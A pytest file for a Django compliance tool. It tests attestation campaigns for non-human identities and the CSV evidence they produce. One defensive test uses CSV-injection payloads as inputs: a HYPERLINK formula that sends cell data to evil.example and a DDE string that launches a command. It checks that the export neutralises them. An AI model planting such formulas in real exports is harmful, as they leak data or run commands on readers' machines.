"""Attestation campaigns end to end: Security opens one, owner teams keep or revoke each of
their identities, reminders and escalation go out once each, and on close the results are a
CSV submitted as evidence with its SHA-256."""

import csv
import datetime as dt
import hashlib
import io

import pytest
from django.core import mail
from django.core.exceptions import PermissionDenied, ValidationError
from django.test import TestCase

from evidence.models import Evidence, RequestStatus
from nhi import campaigns
from nhi.models import (
    AttestationCampaign,
    AttestationDecision,
    AttestationItem,
    CampaignReminder,
    CampaignStatus,
    Environment,
    NhiKind,
    NhiStatus,
)
from soc2hub.jobs import run_daily_jobs
from soc2hub.models import ActivityLog, Membership, Notification
from tests.evidence.factories import make_request, make_template, stored_files
from tests.nhi.factories import (  # noqa: F401  (fixtures)
    days,
    logs,
    make_nhi,
    notified,
    people_fixture,
)

KEEP, REVOKE, PENDING = AttestationDecision.KEEP, AttestationDecision.REVOKE, AttestationDecision.PENDING


@pytest.fixture
def estate(teams, people):
    """Two HR identities, one Engineering, one Legal, one with no owner team, one revoked."""
    return {
        "hr_key": make_nhi(teams["hr"], "hr-payroll-key", scopes="s3:GetObject\ns3:PutObject"),
        "hr_bot": make_nhi(teams["hr"], "hr-onboarding-bot", kind=NhiKind.BOT, environment=Environment.STAGING),
        "eng_ci": make_nhi(teams["engineering"], "eng-deploy-secret", kind=NhiKind.CICD_SECRET),
        "legal_app": make_nhi(teams["legal"], "legal-esign-app", kind=NhiKind.OAUTH_APP),
        "unowned": make_nhi(None, "mystery-key"),
        "revoked": make_nhi(teams["hr"], "old-key", status=NhiStatus.REVOKED),
    }


@pytest.fixture
def access_review(teams, people):
    """Security's quarterly access review request (CC6.2/CC6.3), open and awaiting evidence."""
    template = make_template(teams["security"], title="Quarterly access review", cadence="quarterly")
    return make_request(template, due_on=days(20))


def open_campaign(people, **kwargs):
    kwargs.setdefault("name", "Q4 2026 non-human identity review")
    kwargs.setdefault("due_on", days(10))
    return campaigns.campaign_open(actor=people["security"], **kwargs)


def item(campaign, nhi) -> AttestationItem:
    return campaign.items.get(nhi=nhi)


def read_csv(content: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8"))))


# --- opening ----------------------------------------------------------------------------------------

def test_opening_creates_one_item_per_live_identity_with_its_owner_team(estate, teams, people):
    campaign = open_campaign(people)

    items = {i.nhi.name: i.owner_team for i in campaign.items.select_related("nhi", "owner_team")}
    assert items == {"hr-payroll-key": teams["hr"], "hr-onboarding-bot": teams["hr"],
                     "eng-deploy-secret": teams["engineering"], "legal-esign-app": teams["legal"],
                     "mystery-key": None}
    assert set(campaign.items.values_list("decision", flat=True)) == {PENDING}
    [entry] = logs("campaign.opened")
    assert entry.actor == people["security"]
    assert (entry.after["items"], entry.after["unowned"], entry.after["teams"]) == (
        5, 1, {"Engineering": 1, "HR": 2, "Legal": 1})


def test_each_person_hears_once_however_many_teams_and_identities(estate, teams, people,
                                                                 django_capture_on_commit_callbacks):
    Membership.objects.create(user=people["hr_lead"], team=teams["engineering"])  # Hal is in HR and Engineering

    with django_capture_on_commit_callbacks(execute=True):
        open_campaign(people)

    # Owner teams' members, plus Security for the identity without a team; one notice each.
    assert notified("nhi.campaign_opened") == ["emil_eng_lead", "erin_eng", "hal_hr_lead", "harriet_hr",
                                                "olivia_legal", "sam_security"]
    assert len([m for m in mail.outbox if "Confirm your non-human identities" in m.subject]) == 6
    body = Notification.objects.filter(user=people["owner"]).get().body
    assert "HR: 2" in body and "Engineering: 1" in body


@pytest.mark.parametrize("scope, expected", [
    ({"kinds": [NhiKind.ACCESS_KEY]}, {"hr-payroll-key", "mystery-key"}),
    ({"environments": [Environment.STAGING]}, {"hr-onboarding-bot"}),
    ({"teams": "hr+engineering"}, {"hr-payroll-key", "hr-onboarding-bot", "eng-deploy-secret"}),
    ({"kinds": [NhiKind.ACCESS_KEY], "teams": "hr"}, {"hr-payroll-key"}),
])
def test_the_scope_filters_by_kind_team_and_environment(estate, teams, people, scope, expected):
    if "teams" in scope:
        scope["teams"] = [teams[slug] for slug in scope["teams"].split("+")]
    campaign = open_campaign(people, **scope)

    assert set(campaign.items.values_list("nhi__name", flat=True)) == expected
    assert set(campaign.teams.all()) == set(scope.get("teams", []))


def test_only_security_opens_a_campaign(estate, people):
    with pytest.raises(PermissionDenied):
        open_campaign({"security": people["hr_lead"]})
    assert not AttestationCampaign.objects.exists()


@pytest.mark.parametrize("due_on", [days(0), days(-1), None])
def test_the_due_date_must_be_in_the_future(estate, people, due_on):
    with pytest.raises(ValidationError) as refused:
        open_campaign(people, due_on=due_on)
    assert "due_on" in refused.value.message_dict
    assert not AttestationCampaign.objects.exists() and not Notification.objects.exists()


def test_an_empty_scope_or_unknown_kind_is_refused(estate, people):
    with pytest.raises(ValidationError, match="No live identity"):
        open_campaign(people, kinds=[NhiKind.CERTIFICATE])
    with pytest.raises(ValidationError) as unknown:
        open_campaign(people, kinds=["password"])
    assert "kinds" in unknown.value.message_dict
    assert not AttestationCampaign.objects.exists()


# --- attesting ------------------------------------------------------------------------------------

def test_keep_needs_the_scopes_confirmed(estate, people):
    campaign = open_campaign(people)
    hr_key = item(campaign, estate["hr_key"])

    with pytest.raises(ValidationError) as refused:
        campaigns.item_attest(item=hr_key, actor=people["owner"], decision=KEEP, scopes_confirmed=False)

    assert "scopes" in " ".join(refused.value.message_dict["scopes_confirmed"])
    hr_key.refresh_from_db()
    assert hr_key.decision == PENDING and logs("attestation.decided") == []


def test_revoke_needs_a_reason(estate, people):
    campaign = open_campaign(people)
    with pytest.raises(ValidationError) as refused:
        campaigns.item_attest(item=item(campaign, estate["hr_bot"]), actor=people["owner"], decision=REVOKE,
                              scopes_confirmed=False, comment=" ")
    assert "comment" in refused.value.message_dict
    with pytest.raises(ValidationError) as unknown:
        campaigns.item_attest(item=item(campaign, estate["hr_bot"]), actor=people["owner"], decision=PENDING,
                              scopes_confirmed=True)
    assert "decision" in unknown.value.message_dict


@pytest.mark.parametrize("persona", ["other_team", "eng", "auditor", "leadership"])
def test_another_team_cannot_attest(estate, people, persona):
    campaign = open_campaign(people)
    hr_key = item(campaign, estate["hr_key"])

    with pytest.raises(PermissionDenied):
        campaigns.item_attest(item=hr_key, actor=people[persona], decision=KEEP, scopes_confirmed=True)

    hr_key.refresh_from_db()
    assert (hr_key.decision, hr_key.decided_by) == (PENDING, None) and logs("attestation.decided") == []


def test_only_security_attests_identities_without_a_team(estate, people):
    campaign = open_campaign(people)
    unowned = item(campaign, estate["unowned"])
    with pytest.raises(PermissionDenied):
        campaigns.item_attest(item=unowned, actor=people["owner"], decision=KEEP, scopes_confirmed=True)

    campaigns.item_attest(item=unowned, actor=people["security"], decision=REVOKE, scopes_confirmed=False,
                          comment="Nobody claims it")
    unowned.refresh_from_db()
    assert (unowned.decision, unowned.decided_by) == (REVOKE, people["security"])


def test_deciding_again_overwrites_and_logs_again(estate, people):
    campaign = open_campaign(people)
    hr_key = item(campaign, estate["hr_key"])

    campaigns.item_attest(item=hr_key, actor=people["owner"], decision=KEEP, scopes_confirmed=True)
    campaigns.item_attest(item=hr_key, actor=people["hr_lead"], decision=REVOKE, scopes_confirmed=False,
                          comment="Export moved to SFTP")

    hr_key.refresh_from_db()
    assert (hr_key.decision, hr_key.scopes_confirmed, hr_key.decided_by, hr_key.comment) == (
        REVOKE, False, people["hr_lead"], "Export moved to SFTP")
    decided = logs("attestation.decided", obj=estate["hr_key"])
    assert [(e.actor, e.before["decision"], e.after["decision"]) for e in decided] == [
        (people["owner"], PENDING, KEEP), (people["hr_lead"], KEEP, REVOKE)]
    assert decided[1].message == "Export moved to SFTP"


# --- closing ------------------------------------------------------------------------------------------

def test_end_to_end_the_results_become_evidence_with_their_hash(estate, teams, people, access_review):
    campaign = open_campaign(people, evidence_request=access_review)
    campaigns.item_attest(item=item(campaign, estate["hr_key"]), actor=people["owner"], decision=KEEP,
                          scopes_confirmed=True, comment="Nightly payroll export")
    campaigns.item_attest(item=item(campaign, estate["hr_bot"]), actor=people["hr_lead"], decision=REVOKE,
                          scopes_confirmed=False, comment="Replaced by the HRIS connector")
    campaigns.item_attest(item=item(campaign, estate["eng_ci"]), actor=people["eng"], decision=KEEP,
                          scopes_confirmed=True)
    # Legal and Security never answer: their identities are "not confirmed".

    closed = campaigns.campaign_close(campaign=campaign, actor=people["security"])

    assert closed.status == CampaignStatus.CLOSED and closed.closed_at is not None
    [submission] = Evidence.objects.filter(request=access_review)
    [stored] = submission.files.all()
    with stored.file.open("rb") as handle:
        content = handle.read()
    assert hashlib.sha256(content).hexdigest() == stored.sha256 == closed.result_sha256
    assert content == campaigns.campaign_results_csv(closed)
    assert stored.original_name.startswith("attestation-q4-2026-non-human-identity-review")
    assert stored.original_name.endswith(".csv") and stored.content_type == "text/csv"
    assert submission.submitted_by == people["security"]
    assert "2 still needed, 1 to revoke, 2 not confirmed" in submission.note
    access_review.refresh_from_db()
    assert access_review.status == RequestStatus.SUBMITTED

    rows = {r["identity"]: r for r in read_csv(content)}
    assert list(rows) == ["eng-deploy-secret", "hr-onboarding-bot", "hr-payroll-key", "legal-esign-app",
                          "mystery-key"]
    assert rows["hr-payroll-key"] == {
        "identity": "hr-payroll-key", "kind": "API key / access key", "external_id": estate["hr_key"].external_id,
        "environment": "Production", "owner_team": "HR", "decision": "keep", "scopes_confirmed": "yes",
        "decided_by": f"{people['owner'].get_full_name()} (harriet_hr)",
        "decided_at": rows["hr-payroll-key"]["decided_at"], "comment": "Nightly payroll export"}
    assert dt.datetime.fromisoformat(rows["hr-payroll-key"]["decided_at"]).tzinfo is not None
    assert (rows["hr-onboarding-bot"]["decision"], rows["hr-onboarding-bot"]["scopes_confirmed"]) == ("revoke", "no")
    for pending in ("legal-esign-app", "mystery-key"):
        assert (rows[pending]["decision"], rows[pending]["decided_by"], rows[pending]["decided_at"]) == (
            "not confirmed", "", "")
    assert rows["mystery-key"]["owner_team"] == "none (Security)"

    [entry] = logs("campaign.closed")
    assert entry.after["sha256"] == closed.result_sha256 and entry.after["evidence"] == submission.pk
    assert entry.after["items"] == {"pending": 2, "keep": 2, "revoke": 1}


def test_the_csv_cannot_carry_a_spreadsheet_formula(teams, people):
    hostile = make_nhi(teams["hr"], '=HYPERLINK("https://evil.example/?"&A1,"Click")', external_id="+cmd|' /C calc'!A0")
    make_nhi(teams["hr"], "@SUM(1+1)", external_id="-2+3")
    make_nhi(teams["hr"], "\tTabbed", external_id="\rReturned")
    campaign = open_campaign(people)
    campaigns.item_attest(item=item(campaign, hostile), actor=people["owner"], decision=REVOKE,
                          scopes_confirmed=False, comment="=1+1 and a NUL\x00 byte")

    campaigns.campaign_close(campaign=campaign, actor=people["security"])
    rows = read_csv(campaigns.campaign_results_csv(campaign))

    cells = [value for r in rows for key, value in r.items() if key in ("identity", "external_id", "comment")
             and value]
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    assert {r["identity"] for r in rows} == {"'=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")", "'@SUM(1+1)",
                                             "'\tTabbed"}
    assert {r["external_id"] for r in rows} == {"'+cmd|' /C calc'!A0", "'-2+3", "'\rReturned"}
    assert [r["comment"] for r in rows if r["comment"]] == ["'=1+1 and a NUL byte"]
    assert campaigns.csv_safe("plain") == "plain" and campaigns.csv_safe(None) == ""


def test_closing_twice_is_refused(estate, people):
    campaign = open_campaign(people)
    campaigns.campaign_close(campaign=campaign, actor=people["security"])

    with pytest.raises(ValidationError, match="already closed"):
        campaigns.campaign_close(campaign=campaign, actor=people["security"])
    assert len(logs("campaign.closed")) == 1


def test_no_decisions_after_close(estate, people):
    campaign = open_campaign(people)
    campaigns.campaign_close(campaign=campaign, actor=people["security"])

    with pytest.raises(ValidationError, match="closed"):
        campaigns.item_attest(item=item(campaign, estate["hr_key"]), actor=people["owner"], decision=KEEP,
                              scopes_confirmed=True)


def test_only_security_closes(estate, people):
    campaign = open_campaign(people)
    with pytest.raises(PermissionDenied):
        campaigns.campaign_close(campaign=campaign, actor=people["hr_lead"])
    campaign.refresh_from_db()
    assert campaign.status == CampaignStatus.OPEN and campaign.result_sha256 == ""


def test_a_request_that_no_longer_accepts_evidence_leaves_the_campaign_open(estate, people, access_review):
    campaign = open_campaign(people, evidence_request=access_review)
    access_review.status = RequestStatus.SUBMITTED
    access_review.save(update_fields=["status"])

    with pytest.raises(ValidationError, match="accepts evidence only while open or returned"):
        campaigns.campaign_close(campaign=campaign, actor=people["security"])

    campaign.refresh_from_db()
    assert (campaign.status, campaign.result_sha256) == (CampaignStatus.OPEN, "")
    assert not Evidence.objects.exists() and stored_files() == set() and logs("campaign.closed") == []


def test_an_approved_request_cannot_be_linked(estate, people, access_review):
    access_review.status = RequestStatus.APPROVED
    access_review.save(update_fields=["status"])
    with pytest.raises(ValidationError) as refused:
        open_campaign(people, evidence_request=access_review)
    assert "evidence_request" in refused.value.message_dict


# --- reminders and escalation ----------------------------------------------------------------------

def each_day(first: dt.date, last: dt.date):
    while first <= last:
        yield first
        first += dt.timedelta(days=1)


def test_reminders_and_escalation_go_out_once_each_across_repeated_runs(estate, teams, people):
    campaign = open_campaign(people, due_on=days(10))
    for nhi in (estate["legal_app"],):  # Legal answers everything: it is never reminded
        campaigns.item_attest(item=item(campaign, nhi), actor=people["other_team"], decision=KEEP,
                              scopes_confirmed=True)
    campaigns.item_attest(item=item(campaign, estate["hr_key"]), actor=people["owner"], decision=KEEP,
                          scopes_confirmed=True)  # HR still has its bot pending
    mail.outbox.clear()

    with TestCase.captureOnCommitCallbacks(execute=True):  # the e-mails leave after commit
        for day in each_day(days(0), days(10 + 16)):
            run_daily_jobs(day, only=["nhi.campaign_reminders"])
            run_daily_jobs(day, only=["nhi.campaign_reminders"])

    sent = sorted(CampaignReminder.objects.values_list("team__slug", "kind", "key"))
    expected_per_team = [("before_due", 1), ("before_due", 7), ("due_today", 0),
                         ("escalation", 0), ("escalation", 1), ("escalation", 2)]
    assert sent == sorted((slug, kind, key) for slug in ("engineering", "hr", "security")
                          for kind, key in expected_per_team)
    assert ActivityLog.objects.filter(verb__startswith="campaign.", object_id=str(campaign.pk)).exclude(
        verb="campaign.opened").count() == 18

    # Reminders go to the team's members; escalations to its lead and Security.
    assert notified("nhi.campaign_before_due") == sorted(
        ["harriet_hr", "hal_hr_lead", "erin_eng", "emil_eng_lead", "sam_security"] * 2)
    assert notified("nhi.campaign_escalation") == sorted(
        ["hal_hr_lead", "sam_security", "emil_eng_lead", "sam_security", "sam_security"] * 3)
    hr_escalations = [m for m in mail.outbox if m.subject.startswith("[soc2hub] Overdue: HR")]
    assert sorted(address for m in hr_escalations for address in m.to) == sorted(
        ["hal_hr_lead@example.com", "sam_security@example.com"] * 3)
    assert all("HR has 1 identity to confirm" in m.subject for m in hr_escalations)
    assert "Team lead: " in hr_escalations[0].body and "weekly" in hr_escalations[0].body


def test_a_team_that_finishes_hears_nothing_more_and_closed_campaigns_are_silent(estate, people):
    campaign = open_campaign(people, due_on=days(3), teams=[estate["hr_key"].owner_team])
    run_daily_jobs(days(0), only=["nhi.campaign_reminders"])
    assert list(CampaignReminder.objects.values_list("kind", "key")) == [("before_due", 7)]

    for nhi in (estate["hr_key"], estate["hr_bot"]):
        campaigns.item_attest(item=item(campaign, nhi), actor=people["owner"], decision=KEEP, scopes_confirmed=True)
    run_daily_jobs(days(2), only=["nhi.campaign_reminders"])
    campaigns.campaign_close(campaign=campaign, actor=people["security"])
    run_daily_jobs(days(9), only=["nhi.campaign_reminders"])

    assert CampaignReminder.objects.count() == 1


def test_a_concurrent_run_that_already_sent_the_reminder_sends_nothing(estate, teams, people):
    """The unique row decides, not the pre-read: a second attempt at the same reminder is a no-op."""
    campaign = open_campaign(people, due_on=days(5))
    first = campaigns._send_campaign_reminder(campaign, teams["hr"], 2, 0, "before_due", 7, days(0))
    again = campaigns._send_campaign_reminder(campaign, teams["hr"], 2, 0, "before_due", 7, days(0))

    assert (first, again) == (True, False)
    assert notified("nhi.campaign_before_due") == ["hal_hr_lead", "harriet_hr"]
